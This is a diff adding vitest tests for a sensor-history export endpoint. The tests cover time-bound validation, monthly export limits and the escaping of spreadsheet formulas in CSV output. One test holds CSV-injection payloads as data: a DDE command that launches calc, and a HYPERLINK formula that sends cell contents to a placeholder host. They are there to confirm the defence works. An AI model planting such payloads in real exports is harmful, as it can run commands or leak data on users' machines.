@@ -7,7 +7,7 @@
    response bodies are untyped on purpose: these tests check them at run time. */
 import { describe, expect, it } from 'vitest';
 import { createInfluxClient } from '../../src/history/influx-client.ts';
-import { call, startApiHarness } from './api-harness.ts';
+import { call, PARSER, startApiHarness } from './api-harness.ts';
 
 const N = 100_000;
 const end = Math.floor(Date.now() / 1000) * 1000 - 60_000;
@@ -109,5 +109,104 @@ describe('sensors/export', () => {
       query: 'deviceName=device_1_hallway&sensorName=Occupancy&format=csv',
     });
     expect(empty.text).toBe('time,value\n');
+    // Bounds past what InfluxDB can hold (2262) are valid and simply find nothing there.
+    const far = await call(h.baseUrl, '/sensors/export', {
+      token,
+      query: 'deviceName=device_1_hallway&sensorName=CO2&startUTC=253402300799',
+    });
+    expect([far.status, far.json.data.values]).toEqual([200, []]);
+  });
+
+  it('puts a quote before text a spreadsheet would run as a formula, and leaves numbers alone', async () => {
+    const h = await startApiHarness({ exportLimitPerMonth: 0 });
+    const { token } = await h.seedEnvironment('demo');
+    const spec = {
+      name: 'Labels',
+      manufacturer: 'Acme',
+      version: '1',
+      dataPoints: [
+        { name: 'Label', displayName: 'Label', dataType: 'string' as const, hysteresis: 0, thresholds: [] },
+        { name: 'Level', displayName: 'Level', dataType: 'number' as const, hysteresis: 0, thresholds: [] },
+      ],
+    };
+    await h.admin.applyDefinition({ kind: 'private', env: 'demo' }, spec, PARSER);
+    await h.admin.createDevice('demo', { name: 'tag', definitionName: 'Labels', definitionIsPublic: false });
+    const texts = [
+      "=cmd|' /C calc'!A0",
+      '=HYPERLINK("http://x.example/?"&A1,"Click")',
+      '+1',
+      '-1',
+      '@x',
+      '\tx',
+      '\rx',
+      'plain',
+    ];
+    const at = (i: number) => start + i * 1000;
+    await h.writeHistory(
+      'demo',
+      'tag',
+      'Label',
+      texts.map((value, i) => ({ timeMs: at(i), value })),
+      'string',
+    );
+    await h.writeHistory(
+      'demo',
+      'tag',
+      'Level',
+      [-3.5, -0.25, 2].map((value, i) => ({ timeMs: at(i), value })),
+      'number',
+    );
+    const csv = (sensorName: string) =>
+      call(h.baseUrl, '/sensors/export', { token, body: { deviceName: 'tag', sensorName, format: 'csv' } });
+    const cells = (await csv('Label')).text.split('\n').slice(1, -1);
+    expect(cells).toEqual([
+      `${new Date(at(0)).toISOString()},'=cmd|' /C calc'!A0`,
+      `${new Date(at(1)).toISOString()},"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`,
+      `${new Date(at(2)).toISOString()},'+1`,
+      `${new Date(at(3)).toISOString()},'-1`,
+      `${new Date(at(4)).toISOString()},'@x`,
+      `${new Date(at(5)).toISOString()},'\tx`,
+      `${new Date(at(6)).toISOString()},"'\rx"`,
+      `${new Date(at(7)).toISOString()},plain`,
+    ]);
+    expect((await csv('Level')).text).toBe(
+      `time,value\n${new Date(at(0)).toISOString()},-3.5\n${new Date(at(1)).toISOString()},-0.25\n${new Date(at(2)).toISOString()},2\n`,
+    );
+    // JSON carries the values as they are.
+    const json = await call(h.baseUrl, '/sensors/export', {
+      token,
+      body: { deviceName: 'tag', sensorName: 'Label' },
+    });
+    expect((json.json.data.values as { value: string }[]).map((v) => v.value)).toEqual(texts);
+  });
+
+  it('refuses startUTC and endUTC outside 0..253402300799 with 400 before using the allowance', async () => {
+    const h = await startApiHarness({ exportLimitPerMonth: 1 });
+    const { token } = await h.seedEnvironment('demo');
+    await h.writeHistory('demo', 'device_1_hallway', 'Humidity', values.slice(0, 10));
+    const ref = { deviceName: 'device_1_hallway', sensorName: 'Humidity' };
+    for (const [attribute, value] of [
+      ['startUTC', 1e20],
+      ['endUTC', 1e16],
+      ['endUTC', 253402300800],
+      ['startUTC', -1],
+      ['startUTC', '1e20'],
+    ] as const) {
+      const res = await call(h.baseUrl, '/sensors/export', { token, body: { ...ref, [attribute]: value } });
+      expect([res.status, res.json.error.code, res.json.error.attribute]).toEqual([
+        400,
+        'INVALID_ATTRIBUTE',
+        attribute,
+      ]);
+    }
+    // The largest bound accepted reaches InfluxDB as a valid query, and is the one export of the month.
+    const ok = await call(h.baseUrl, '/sensors/export', {
+      token,
+      body: { ...ref, startUTC: 0, endUTC: 253402300799 },
+    });
+    expect(ok.status).toBe(200);
+    expect(ok.json.data.values).toHaveLength(10);
+    const again = await call(h.baseUrl, '/sensors/export', { token, body: ref });
+    expect([again.status, again.json.error.code]).toEqual([429, 'EXPORT_LIMIT_REACHED']);
   });
 });
